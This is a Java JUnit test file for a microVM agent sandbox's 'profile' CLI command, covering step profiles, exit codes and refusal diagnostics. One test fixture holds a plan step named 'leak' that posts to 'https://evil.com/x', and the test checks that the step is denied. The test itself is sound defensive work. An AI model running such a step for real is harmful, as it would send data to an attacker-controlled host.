package dev.rtfs.microvm.cli;

import static dev.rtfs.microvm.cli.CliRun.run;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** {@code rtfs-microvm profile}: profiles of an admitted plan, diagnostics of a refused one, exit codes. */
class ProfileCommandTest {

    static final String CONFIG = """
            (agent.config
              :version "0.1.0" :agent-id "agent.cli"
              :orchestrator {:isolation {:mode :microvm :fs {:ephemeral true :mounts {:capabilities {:mode :ro}}}}
                             :dlp {:enabled true :policy :strict}}
              :network {:enabled true :egress {:via :proxy :allow-domains ["example.com"]}}
              :microvm {:kernel {:image "k"} :rootfs {:image "r" :ro true} :resources {:vcpus 1 :mem_mb 256}
                        :devices {:nic {:enabled true :proxy_ns "ns"} :vsock {:enabled true :cid 3}}})
            """;

    static final String PLAN = """
            (plan ^{:effects [[:network {:domains ["example.com"] :methods [:GET]}] [:fs {:paths ["/tmp/agent"]}] :random]
                    :resources {:max_time_ms 20000}
                    :determinism {:time :deterministic :random {:seed "7"}}}
              :program
              (do (step "fetch" (call :http.get {:url "https://Example.com./a"}))
                  (step "store" (call :fs.write {:path "/tmp/agent/steps/1/a.json" :content "x"}))
                  (step "roll" (call :random.int {:max 6}))))
            """;

    @TempDir Path dir;

    private String file(String name, String text) throws IOException {
        Path p = dir.resolve(name);
        Files.writeString(p, text, StandardCharsets.UTF_8);
        return p.toString();
    }

    @Test
    void textModePrintsAStepTable() throws IOException {
        CliRun r = run("profile", "--config", file("agent.rtfs", CONFIG), file("plan.rtfs", PLAN));
        assertThat(r.exit()).as(r.err() + r.out()).isZero();
        assertThat(r.out()).contains("admitted for agent agent.cli: 3 step(s)");
        String[] lines = r.out().split("\n");
        assertThat(lines[1]).startsWith("#").contains("STEP").contains("NETWORK").contains("RANDOM");
        assertThat(lines[2]).startsWith("0").contains("fetch").contains("example.com").contains("GET");
        assertThat(lines[3]).startsWith("1").contains("store").contains("deny-all").contains("/tmp/agent/steps/1/a.json");
        assertThat(lines[4]).startsWith("2").contains("roll").contains("deterministic (seed 7)");
    }

    @Test
    void jsonModePrintsTheStepProfileArray() throws IOException {
        CliRun r = run("profile", "--config", file("agent.rtfs", CONFIG), file("plan.rtfs", PLAN), "--format", "json");
        assertThat(r.exit()).as(r.err()).isZero();
        JsonNode profiles = JsonMapper.builder().build().readTree(r.out());
        assertThat(profiles.isArray()).isTrue();
        assertThat(profiles.size()).isEqualTo(3);
        assertThat(profiles.get(0).toString()).isEqualTo("""
                {"step":"fetch","index":0,\
                "network_acl":{"allow_domains":["example.com"],"allow_methods":["GET"]},\
                "fs_policy":{"workdir":"/tmp/agent/steps/0","capabilities_mount":"ro","allowed_paths":[]},\
                "determinism":{"time":"deterministic","random":"real","seed":null},\
                "feature_gates":{"llm":false,"gpu":false},\
                "limits":{"max_time_ms":20000}}""");
        assertThat(profiles.get(2).get("determinism").get("seed").asString()).isEqualTo("7");
    }

    @Test
    void loadedMacrosBuildTheConfig() throws IOException {
        String macros = file("macros.rtfs", "(defn mk [id domains]\n  " + CONFIG.strip()
                .replace("\"agent.cli\"", "id").replace("[\"example.com\"]", "domains") + ")\n");
        String cfg = file("agent.rtfs", "(mk \"agent.macro\" [\"example.com\"])");
        CliRun r = run("profile", "--load", macros, "--config", cfg, file("plan.rtfs", PLAN));
        assertThat(r.exit()).as(r.err() + r.out()).isZero();
        assertThat(r.out()).contains("admitted for agent agent.macro: 3 step(s)");
    }

    @Test
    void refusedPlanPrintsDiagnosticsAndExitsOne() throws IOException {
        String plan = file("bad.rtfs", """
                (plan ^{:effects [:network]} :program
                  (do (step "leak" (call :http.post {:url "https://evil.com/x"}))
                      (step "dyn" (call :http.get {:url u}))))
                """);
        CliRun text = run("profile", "--config", file("agent.rtfs", CONFIG), plan);
        assertThat(text.exit()).isEqualTo(1);
        assertThat(text.out()).contains("ADMISSION_DOMAIN_DENIED").contains("ADMISSION_UNDECLARED_CALL")
                .contains(plan + ":2:").contains(plan + ":3:");
        CliRun json = run("profile", "--config", dir.resolve("agent.rtfs").toString(), plan, "--format", "json");
        assertThat(json.exit()).isEqualTo(1);
        JsonNode report = JsonMapper.builder().build().readTree(json.out());
        assertThat(report.toString()).contains("ADMISSION_DOMAIN_DENIED").contains("steps.leak.effects.network.domains");
    }

    @Test
    void invalidConfigIsReportedAndRefused() throws IOException {
        String cfg = file("agent.rtfs", CONFIG.replace(":ro true}", ":ro false}"));
        CliRun r = run("profile", "--config", cfg, file("plan.rtfs", PLAN));
        assertThat(r.exit()).isEqualTo(1);
        assertThat(r.out()).contains("MICROVM_ROOTFS_RW");
    }

    @Test
    void usageErrorsExitTwo() throws IOException {
        String cfg = file("agent.rtfs", CONFIG);
        CliRun missing = run("profile", "--config", cfg, dir.resolve("nope.rtfs").toString());
        assertThat(missing.exit()).isEqualTo(2);
        assertThat(missing.err()).contains("no such file").doesNotContain("Exception");
        assertThat(run("profile", file("plan.rtfs", PLAN)).exit()).as("--config is required").isEqualTo(2);
        assertThat(run("profile", "--config", cfg, file("plan.rtfs", PLAN), "--format", "yaml").exit()).isEqualTo(2);
    }

    @Test
    void syntaxErrorInThePlanIsADiagnostic() throws IOException {
        CliRun r = run("profile", "--config", file("agent.rtfs", CONFIG), file("plan.rtfs", "(plan :program (step \"a\" 1)"));
        assertThat(r.exit()).isEqualTo(1);
        assertThat(r.out()).contains("RTFS_SYNTAX");
    }

    @Test
    void invalidUtf8InThePlanIsReportedUnderThePlansName() throws IOException {
        String cfg = file("agent.rtfs", CONFIG);
        Path plan = dir.resolve("plan.rtfs");
        Files.write(plan, new byte[] {'(', 'p', (byte) 0xDD, ')'});
        CliRun r = run("profile", "--config", cfg, plan.toString());
        assertThat(r.exit()).isEqualTo(1);
        assertThat(r.out()).contains("RTFS_SYNTAX").contains("invalid UTF-8").contains("invalid: " + plan)
                .doesNotContain("invalid: " + cfg);
    }
}
